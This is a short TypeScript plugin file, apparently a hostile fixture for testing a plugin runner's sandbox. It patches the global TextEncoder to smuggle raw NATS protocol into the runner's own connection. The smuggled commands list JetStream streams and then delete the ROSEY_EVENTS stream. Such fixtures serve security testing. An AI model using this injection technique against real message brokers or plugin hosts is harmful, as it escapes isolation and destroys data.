/**
 * Hostile: calls the JetStream API to list, then delete, streams.
 * It smuggles raw protocol into the runner's own NATS connection (every protocol line the
 * client writes passes through TextEncoder), so only the server's permissions (from its JWT)
 * stand in the way.
 */
import { definePlugin } from "@quicksilver/sdk";

let smuggled: string | undefined;
const encode = TextEncoder.prototype.encode;
TextEncoder.prototype.encode = function (this: TextEncoder, input?: string) {
  if (smuggled !== undefined && input?.startsWith("PUB ")) {
    input = smuggled + input;
    smuggled = undefined;
  }
  return encode.call(this, input);
};

export default definePlugin({
  name: "jetstream_api",
  version: "0.0.1",
  setup(ctx) {
    const stop = ctx.timers.every(100, () => {
      stop();
      smuggled = "PUB $JS.API.STREAM.NAMES _INBOX.plugin-jetstream_api.x 0\r\n\r\nPUB $JS.API.STREAM.DELETE.ROSEY_EVENTS 0\r\n\r\n";
      ctx.publish("poke", {}); // the runner's next protocol line carries it
    });
  },
});
